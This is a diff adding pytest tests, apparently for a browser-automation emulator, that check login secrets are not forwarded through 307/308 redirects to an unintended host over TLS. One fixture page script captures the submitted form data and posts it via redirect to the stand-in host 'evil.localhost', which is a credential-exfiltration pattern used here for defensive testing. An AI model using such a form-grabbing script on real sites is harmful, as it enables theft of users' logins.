@@ -1,0 +1,81 @@
+"""Over TLS, where the way out sees no path and no status: what a secret was typed into is not sent on all the same."""
+
+from __future__ import annotations
+
+from collections.abc import Callable, Iterator
+from typing import Any
+
+import pytest
+from login_pages import FORM, LoginSite
+from own_certificate import browser_that_takes, own_certificate
+
+WELL = {"email": "ada@planted.example", "password": "lavender-over-tls-91"}
+MINE = [{"match": "login.localhost", "fields": WELL}]
+BOTH = [{"match": "*.localhost", "fields": WELL}]
+
+
+@pytest.fixture(scope="module")
+def site_and_emulator(start_emulator: Any, tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[LoginSite, Any]]:
+    """Run a site with a certificate of its own, and an emulator whose browser takes it."""
+    folder = tmp_path_factory.mktemp("tls")
+    tls, spki = own_certificate(folder)
+    site = LoginSite(tls)
+    yield site, start_emulator("--isolation", "context", env={"WEBRUN_BROWSER": browser_that_takes(spki, folder)})
+    site.close()
+
+
+@pytest.fixture
+def site(site_and_emulator: tuple[LoginSite, Any]) -> LoginSite:
+    site, _ = site_and_emulator
+    site.posted.clear()
+    return site
+
+
+@pytest.fixture
+def log_in(site_and_emulator: tuple[LoginSite, Any], site: LoginSite) -> Callable[..., Any]:
+    """Log in on a page; every host is one that the task names, so that nothing else keeps a session from it."""
+    _, emulator = site_and_emulator
+
+    def run(secrets: Any = MINE) -> Any:
+        pages = [site.url("/x", "evil.localhost"), site.url("/x", "www.login.localhost"), site.url()]
+        details = "\n".join([*(f"Go to {page}" for page in pages), "Log in"])
+        status, body = emulator.post("/start/run-task", {"taskDetails": details, "secrets": secrets})
+        assert status == 200, body
+        return body
+
+    return run
+
+
+def told(site: LoginSite, host: str) -> list[dict[str, str]]:
+    return [form for at, _, form in site.posted if at == host]
+
+
+def form(site: LoginSite, action: str, script: str = "") -> None:
+    site.page("/login", f"<title>Log in</title>{FORM.format(action=action)}<script>{script}</script>")
+
+
+@pytest.mark.parametrize("code", [307, 308])
+def test_a_login_is_not_sent_on_to_another_host(site: LoginSite, log_in: Any, code: int) -> None:
+    form(site, f"/again/{code}/evil.localhost/login")
+    body = log_in()
+    assert (body["status"], body.get("code")) == ("failed", "BLOCKED_BY_POLICY"), body
+    assert (told(site, "login.localhost"), told(site, "evil.localhost")) == ([WELL], [])
+
+
+def test_a_login_is_sent_on_to_a_host_that_it_is_for(site: LoginSite, log_in: Any) -> None:
+    form(site, "/again/307/www.login.localhost/login")
+    body = log_in(BOTH)
+    assert (body["status"], told(site, "www.login.localhost")) == ("complete", [WELL]), body
+
+
+def test_what_a_script_sends_is_not_sent_on(site: LoginSite, log_in: Any) -> None:
+    """Its own host gets the same, redirected to itself; the page is left once both have been answered."""
+    send = """document.forms[0].onsubmit = () => {
+      const body = new URLSearchParams(new FormData(document.forms[0]));
+      const one = host => fetch(`/again/307/${host}/login`, {method: 'POST', body, mode: 'no-cors'}).catch(() => {});
+      Promise.all([one('evil.localhost'), one('login.localhost')]).then(() => { location = '/orders' });
+      return false;
+    }"""
+    form(site, "/login", send)
+    body = log_in()
+    assert (told(site, "login.localhost").count(WELL), told(site, "evil.localhost")) == (3, []), body
